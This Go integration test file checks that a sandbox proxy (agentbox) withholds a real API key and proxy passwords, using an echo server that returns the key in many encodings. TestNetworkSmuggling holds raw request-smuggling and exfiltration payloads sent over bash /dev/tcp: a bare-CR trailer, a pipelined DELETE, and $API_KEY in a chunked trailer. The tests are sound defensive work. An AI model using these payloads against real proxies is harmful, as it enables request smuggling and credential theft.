//go:build linux

package integration

import (
	"bufio"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"crypto/tls"
	"encoding/base64"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/andybalholm/brotli"
)

// echoServer is a named host that hands back the key it was given in every
// way a host can: in a body whatever content coding the proxy asked for,
// in the status line, a header field's name, a folded line, a trailer, a
// malformed line the proxy quotes, and in the encodings a box could undo.
// It serves TLS with cert, one request per connection.
type echoServer struct {
	ln   net.Listener
	port string
	wg   sync.WaitGroup
}

func startEchoServer(t *testing.T, cert tls.Certificate) *echoServer {
	t.Helper()
	ln, err := tls.Listen("tcp4", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{cert}})
	if err != nil {
		t.Fatal(err)
	}
	s := &echoServer{ln: ln}
	_, s.port, _ = net.SplitHostPort(ln.Addr().String())
	var conns sync.Map
	s.wg.Add(1)
	go func() {
		defer s.wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Store(c, true)
			s.wg.Add(1)
			go func() {
				defer s.wg.Done()
				defer conns.Delete(c)
				defer c.Close()
				c.SetDeadline(time.Now().Add(30 * time.Second))
				req, err := http.ReadRequest(bufio.NewReader(c))
				if err != nil {
					return
				}
				io.WriteString(c, echoAnswer(req.URL.Path, req.Header.Get("X-Api-Key")))
			}()
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		conns.Range(func(c, _ any) bool { c.(net.Conn).Close(); return true })
		s.wg.Wait()
	})
	return s
}

// echoPaths are the ways echoAnswer hands the key back.
var echoPaths = []string{"gzip", "x-gzip", "deflate", "rawdeflate", "br", "zstd", "gzip-br", "compress", "reason", "badstatus",
	"badheader", "fold", "name", "trailer", "gzip-trailer", "encodings", "te-gzip"}

func echoAnswer(path, key string) string {
	body := "echo: " + key + "\n"
	coded := func(coding string, w func(io.Writer) io.WriteCloser) string {
		var b bytes.Buffer
		z := w(&b)
		io.WriteString(z, body)
		z.Close()
		return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding: %s\r\nContent-Length: %d\r\n\r\n%s", coding, b.Len(), b.String())
	}
	gz := func(w io.Writer) io.WriteCloser { return gzip.NewWriter(w) }
	switch strings.TrimPrefix(path, "/") {
	case "gzip":
		return coded("gzip", gz)
	case "x-gzip":
		return coded("x-gzip", gz)
	case "deflate":
		return coded("deflate", func(w io.Writer) io.WriteCloser { return zlib.NewWriter(w) })
	case "rawdeflate":
		return coded("deflate", func(w io.Writer) io.WriteCloser { z, _ := flate.NewWriter(w, flate.DefaultCompression); return z })
	case "br":
		return coded("br", func(w io.Writer) io.WriteCloser { return brotli.NewWriter(w) })
	case "zstd":
		// Not zstd: the proxy refuses the coding before reading a byte.
		return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding: zstd\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	case "gzip-br":
		var inner bytes.Buffer
		z := gzip.NewWriter(&inner)
		io.WriteString(z, body)
		z.Close()
		var b bytes.Buffer
		bw := brotli.NewWriter(&b)
		bw.Write(inner.Bytes())
		bw.Close()
		return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding: gzip, br\r\nContent-Length: %d\r\n\r\n%s", b.Len(), b.String())
	case "compress":
		return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding: compress\r\nContent-Length: %d\r\n\r\n%s", len(body), body)
	case "te-gzip":
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		io.WriteString(z, body)
		z.Close()
		return "HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip\r\nConnection: close\r\n\r\n" + b.String()
	case "reason":
		return "HTTP/1.1 200 " + key + "\r\nContent-Length: 3\r\n\r\nok\n"
	case "badstatus":
		return "HTTP/1.1 2000 " + key + "\r\nContent-Length: 3\r\n\r\nok\n"
	case "badheader":
		return "HTTP/1.1 200 OK\r\nX-Echo " + key + "\r\nContent-Length: 3\r\n\r\nok\n"
	case "fold":
		return "HTTP/1.1 200 OK\r\nX-Echo: " + key[:10] + "\r\n " + key[10:] + "\r\nContent-Length: 3\r\n\r\nok\n"
	case "name":
		return "HTTP/1.1 200 OK\r\n" + key + ": 1\r\nContent-Length: 3\r\n\r\nok\n"
	case "trailer":
		return "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\nTrailer: X-Echo\r\n\r\n3\r\nok\n\r\n0\r\nX-Echo: " + key + "\r\n\r\n"
	case "gzip-trailer":
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		io.WriteString(z, body)
		z.Close()
		return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n%x\r\n%s\r\n0\r\nX-Echo: %s\r\n\r\n", b.Len(), b.String(), key)
	case "encodings":
		e := "b64: " + base64.StdEncoding.EncodeToString([]byte(key)) + "\n" +
			"b64 offset: " + base64.StdEncoding.EncodeToString([]byte("x"+key)) + "\n" +
			"b64url offset: " + base64.URLEncoding.EncodeToString([]byte("xy"+key)) + "\n" +
			"url: " + url.QueryEscape(key) + "\n" +
			"json: " + jsonEscapeAll(key) + "\n"
		return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", len(e), e)
	}
	return "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n"
}

func jsonEscapeAll(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		fmt.Fprintf(&b, `\u%04x`, s[i])
	}
	return b.String()
}

// keyForms are the forms of key the box must never hold.
func keyForms(key string) []string {
	forms := []string{key, url.QueryEscape(key), jsonEscapeAll(key)}
	for k := 0; k < 3; k++ {
		for _, enc := range []*base64.Encoding{base64.StdEncoding, base64.URLEncoding} {
			full := enc.EncodeToString(append(make([]byte, k), key...))
			forms = append(forms, full[(k+2)/3*4:(k+len(key))/3*4])
		}
	}
	slices.Sort(forms)
	return slices.Compact(forms)
}

// decodeAll undoes what a box could undo of a received answer: the
// content codings its head names.
func decodeAll(head, body []byte) []byte {
	var coding string
	for _, l := range strings.Split(string(head), "\n") {
		if n, v, ok := strings.Cut(l, ":"); ok && strings.EqualFold(strings.TrimSpace(n), "Content-Encoding") {
			coding = strings.TrimSpace(v)
		}
	}
	out := body
	codings := strings.Split(coding, ",")
	for i := len(codings) - 1; i >= 0; i-- {
		var r io.Reader
		switch strings.TrimSpace(codings[i]) {
		case "gzip", "x-gzip":
			z, err := gzip.NewReader(bytes.NewReader(out))
			if err != nil {
				return out
			}
			r = z
		case "deflate":
			z, err := zlib.NewReader(bytes.NewReader(out))
			if err != nil {
				r = flate.NewReader(bytes.NewReader(out))
				break
			}
			r = z
		case "br":
			r = brotli.NewReader(bytes.NewReader(out))
		default:
			continue
		}
		d, _ := io.ReadAll(r)
		out = append(append([]byte(nil), out...), d...)
	}
	return out
}

// TestNetworkSecretEchoed: a named host that hands the real key back in
// any form (a content coding it was not asked for, the status line, a
// header field's name, a folded line, a trailer, agentbox's own message
// about a malformed line, base64 and other encodings) never gives the box
// the real key: what it receives holds the placeholder, or the proxy
// refused the answer with a 502 of its own.
func TestNetworkSecretEchoed(t *testing.T) {
	needCurl(t)
	netNames(t)
	for _, backend := range []string{"bwrap", "landlock"} {
		t.Run(backend, func(t *testing.T) {
			w := newWorld(t)
			caFile, cert := testRoots(t, w.base)
			srv := startEchoServer(t, cert)
			pol := filepath.Join(w.base, "secret.toml")
			write(t, pol, "version = 1\n[network]\nallow = [\"example.test\"]\n\n[[network.secret]]\nenv = \"API_KEY\"\nhosts = [\"example.test\"]\n")
			// A copy of the key under another name leaves the box too.
			w.env = append(w.env, "API_KEY="+realKey, "SSL_CERT_FILE="+caFile, "KEY_COPY=Bearer "+realKey)
			out := filepath.Join(w.project, "got")
			mkdir(t, out)
			var script []string
			for _, p := range echoPaths {
				script = append(script, fmt.Sprintf(`curl -sS --raw -D %s/%s.head -o %s/%s.body https://example.test:%s/%s -H "x-api-key: $API_KEY" 2>%s/%s.err`,
					out, p, out, p, srv.port, p, out, p))
			}
			script = append(script, `echo "copy: ${KEY_COPY:-none}"`, `echo "placeholder: $API_KEY"`)
			r := w.sh([]string{"--backend", backend, "--policy", pol}, strings.Join(script, "; "))
			expectCode(t, r, 0)
			ph := strings.TrimSpace(strings.TrimPrefix(r.stdout[strings.LastIndex(r.stdout, "placeholder: "):], "placeholder: "))
			if !strings.HasPrefix(ph, "agentbox") || len(ph) != len(realKey) {
				t.Fatalf("the box's API_KEY is %q:\n%s", ph, r)
			}
			expectContains(t, "stdout", r.stdout, "copy: none\n")
			for _, p := range echoPaths {
				head, _ := os.ReadFile(filepath.Join(out, p+".head"))
				body, _ := os.ReadFile(filepath.Join(out, p+".body"))
				errs, _ := os.ReadFile(filepath.Join(out, p+".err"))
				all := string(head) + string(decodeAll(head, body)) + string(errs)
				// A header field's name reaches the box in canonical
				// case: the key is looked for in any case.
				if strings.Contains(strings.ToLower(all), strings.ToLower(realKey)) {
					t.Errorf("%s: the box received the real key (in some case):\n%s", p, all)
				}
				for _, f := range keyForms(realKey) {
					if strings.Contains(all, f) {
						t.Errorf("%s: the box received the real key (as %q):\n%s", p, f, all)
					}
				}
				switch p {
				case "compress", "zstd", "te-gzip", "badstatus", "badheader", "fold":
					if !strings.Contains(string(head), " 502 ") || !strings.Contains(string(body), "agentbox: ") {
						t.Errorf("%s: want the proxy's 502, got:\n%s", p, all)
					}
				case "encodings":
					if strings.Count(all, base64.StdEncoding.EncodeToString([]byte(ph))[:20]) != 1 {
						t.Errorf("%s: want the placeholder's base64 where the key's was, got:\n%s", p, all)
					}
				default:
					if !strings.Contains(all, ph) {
						t.Errorf("%s: want the placeholder where the key was, got:\n%s", p, all)
					}
				}
			}
		})
	}
}

// TestNetworkUpstreamPasswordByValue: behind an upstream proxy with
// credentials, no variable in the box holds its password in any form,
// whatever its name: the proxy variables agentbox does not set itself
// (ftp_proxy, RSYNC_PROXY, npm_config_proxy, PIP_PROXY...) point at
// agentbox's proxy instead, and any other variable holding the password
// (raw, URL-encoded, base64 of user:password as in a Proxy-Authorization
// value) is not in the box. Requests still reach the upstream with the
// credentials.
func TestNetworkUpstreamPasswordByValue(t *testing.T) {
	needCurl(t)
	netNames(t)
	srv := startWeb(t)
	up := startUpstreamProxy(t)
	const pass = "s3cret+corp/pw"
	enc := url.QueryEscape(pass)
	proxyURL := "http://alice:" + enc + "@" + up.addr
	b64 := base64.StdEncoding.EncodeToString([]byte("alice:" + pass))
	for _, backend := range []string{"bwrap", "landlock"} {
		t.Run(backend, func(t *testing.T) {
			w := newWorld(t)
			w.env = append(w.env, "HTTPS_PROXY="+proxyURL, "http_proxy="+proxyURL, "ftp_proxy="+proxyURL, "FTP_PROXY="+proxyURL,
				"RSYNC_PROXY=alice:"+enc+"@"+up.addr, "npm_config_proxy="+proxyURL, "npm_config_https_proxy="+proxyURL,
				"PIP_PROXY="+proxyURL, "CORP_PROXY_AUTH=Basic "+b64, "CORP_PW="+pass, "CORP_PW_URL="+enc,
				"UNRELATED=kept")
			r := w.sh(netFlags(w, "--backend", backend), `curl -sS -p http://example.test:`+srv.port+`/via; env; echo "ftp=$ftp_proxy rsync=$RSYNC_PROXY npm=$npm_config_proxy pip=$PIP_PROXY http=$HTTP_PROXY"`)
			expectCode(t, r, 0)
			expectContains(t, "stdout", r.stdout, "hello example.test:"+srv.port+" /via")
			expectContains(t, "stdout", r.stdout, "UNRELATED=kept")
			for _, f := range []string{pass, enc, b64, b64[4:20], "alice:"} {
				if strings.Contains(r.stdout, f) {
					t.Errorf("the box's environment holds %q:\n%s", f, r.stdout)
				}
			}
			for _, name := range []string{"CORP_PROXY_AUTH=", "CORP_PW=", "CORP_PW_URL="} {
				expectNotContains(t, "stdout", r.stdout, "\n"+name)
			}
			var proxy string
			for _, l := range strings.Split(r.stdout, "\n") {
				if v, ok := strings.CutPrefix(l, "HTTP_PROXY="); ok {
					proxy = v
				}
			}
			hp := strings.TrimSuffix(strings.TrimPrefix(proxy, "http://"), "/")
			if hp == "" {
				t.Fatalf("no HTTP_PROXY in the box:\n%s", r.stdout)
			}
			expectContains(t, "stdout", r.stdout, "ftp="+proxy+" rsync="+hp+" npm="+proxy+" pip="+proxy+" http="+proxy)
			got := up.Asked()
			if len(got) == 0 || !strings.Contains(got[len(got)-1], "Basic "+b64) {
				t.Errorf("the upstream was asked %q, want the credentials", got)
			}
			r = w.run(append(append([]string{"plan"}, netFlags(w, "--backend", backend)...), "--", "true")...)
			expectCode(t, r, 0)
			expectContains(t, "plan", r.stdout, "    proxy variables: FTP_PROXY, PIP_PROXY, RSYNC_PROXY, ftp_proxy, npm_config_https_proxy, npm_config_proxy held its credentials; in the box they name agentbox's proxy\n")
			expectNotContains(t, "plan", r.stdout, pass)
		})
	}
}

// rawOrigin is a plain-HTTP origin that records every byte it receives
// and answers each request it reads "200 ok".
type rawOrigin struct {
	ln   net.Listener
	port string
	wg   sync.WaitGroup
	mu   sync.Mutex
	got  bytes.Buffer
}

func startRawOrigin(t *testing.T) *rawOrigin {
	t.Helper()
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	o := &rawOrigin{ln: ln}
	_, o.port, _ = net.SplitHostPort(ln.Addr().String())
	var conns sync.Map
	o.wg.Add(1)
	go func() {
		defer o.wg.Done()
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			conns.Store(c, true)
			o.wg.Add(1)
			go func() {
				defer o.wg.Done()
				defer conns.Delete(c)
				defer c.Close()
				c.SetDeadline(time.Now().Add(30 * time.Second))
				br := bufio.NewReader(io.TeeReader(c, o))
				for {
					req, err := http.ReadRequest(br)
					if err != nil {
						return
					}
					io.Copy(io.Discard, req.Body)
					io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nok\n")
				}
			}()
		}
	}()
	t.Cleanup(func() {
		ln.Close()
		conns.Range(func(c, _ any) bool { c.(net.Conn).Close(); return true })
		o.wg.Wait()
	})
	return o
}

func (o *rawOrigin) Write(b []byte) (int, error) {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.got.Write(b)
}

func (o *rawOrigin) Got() string {
	o.mu.Lock()
	defer o.mu.Unlock()
	return o.got.String()
}

// TestNetworkSmuggling: every request the proxy passes is one it judged. A
// trailer field with a bare CR (a second request for an origin that ends
// lines at one) is refused; a placeholder in a request's trailer is refused
// as in its head; a request pipelined after an allowed one on a plain-HTTP
// forward never reaches the origin unchecked.
func TestNetworkSmuggling(t *testing.T) {
	netNames(t)
	if _, err := os.Stat("/bin/bash"); err != nil {
		need(t, false, "bash (its /dev/tcp is the box's raw client)")
	}
	for _, backend := range []string{"bwrap", "landlock"} {
		t.Run(backend, func(t *testing.T) {
			o := startRawOrigin(t)
			p := o.port
			w := newWorld(t)
			pol := filepath.Join(w.base, "rules.toml")
			write(t, pol, "version = 1\n[network]\nallow = [\"GET example.test/ok\", \"POST example.test/up\", \"POST other.test/up\"]\n\n[[network.secret]]\nenv = \"API_KEY\"\nhosts = [\"wild.test\"]\n")
			w.env = append(w.env, "API_KEY="+realKey)
			netLog := filepath.Join(w.base, "net.log")
			// Each case opens the proxy's port with bash's /dev/tcp and
			// sends raw bytes. The proxy may close the connection before
			// the last bytes are written (it refused what came first):
			// the write then fails with EPIPE, which must not kill the
			// script (SIGPIPE ignored; exit 141 before, now and then).
			send := func(name, data string) string {
				return `exec 3<>/dev/tcp/$host/$port; printf '` + data + `' >&3 2>/dev/null; timeout 10 cat <&3 > ` + w.project + `/` + name + `.out; exec 3>&-`
			}
			script := strings.Join([]string{
				`trap '' PIPE`,
				`hp=${HTTP_PROXY#http://}; hp=${hp%/}; host=${hp%:*}; port=${hp##*:}`,
				send("barecr", `POST http://example.test:`+p+`/up HTTP/1.1\r\nHost: example.test\r\nTransfer-Encoding: chunked\r\n\r\n0\r\nX: a\r\rGET /org/secret/x HTTP/1.1\r\n\r\n`),
				send("pipelined", `GET http://example.test:`+p+`/ok HTTP/1.1\r\nHost: example.test\r\n\r\nDELETE /org/secret/y HTTP/1.1\r\nHost: example.test\r\n\r\n`),
				send("trailer", `CONNECT other.test:`+p+` HTTP/1.1\r\n\r\nPOST /up HTTP/1.1\r\nHost: other.test\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nhi\r\n0\r\nX-Key: '"$API_KEY"'\r\n\r\n`),
				`echo "placeholder: $API_KEY"`,
			}, "; ")
			r := w.run("run", "--backend", backend, "--policy", pol, "--network", "allowlist", "--net-log", netLog, "--", "bash", "-c", script)
			expectCode(t, r, 0)
			ph := strings.TrimSpace(strings.TrimPrefix(r.stdout[strings.LastIndex(r.stdout, "placeholder: "):], "placeholder: "))
			got := o.Got()
			for _, bad := range []string{"/org/secret", "DELETE", ph, realKey} {
				if strings.Contains(got, bad) {
					t.Errorf("the origin received %q:\n%q", bad, got)
				}
			}
			if !strings.Contains(got, "GET /ok HTTP/1.1") {
				t.Errorf("the allowed request did not reach the origin:\n%q\n%s", got, r)
			}
			barecr, _ := os.ReadFile(filepath.Join(w.project, "barecr.out"))
			expectNotContains(t, "bare CR", string(barecr), "200 OK")
			data, _ := os.ReadFile(netLog)
			logHas(t, string(data), "deny http example.test:"+p, "malformed trailer field")
			logHas(t, string(data), "deny http other.test:"+p, "exfiltration attempt", "a trailer field")
			pipelined, _ := os.ReadFile(filepath.Join(w.project, "pipelined.out"))
			if n := strings.Count(string(pipelined), "HTTP/1.1 "); n != 1 || !strings.Contains(string(pipelined), "Connection: close") {
				t.Errorf("the pipelined connection got %d answers, want 1 that closes it:\n%s", n, pipelined)
			}
			trailer, _ := os.ReadFile(filepath.Join(w.project, "trailer.out"))
			expectNotContains(t, "trailer", string(trailer), "200 OK\r\nContent-Length: 3")
		})
	}
}
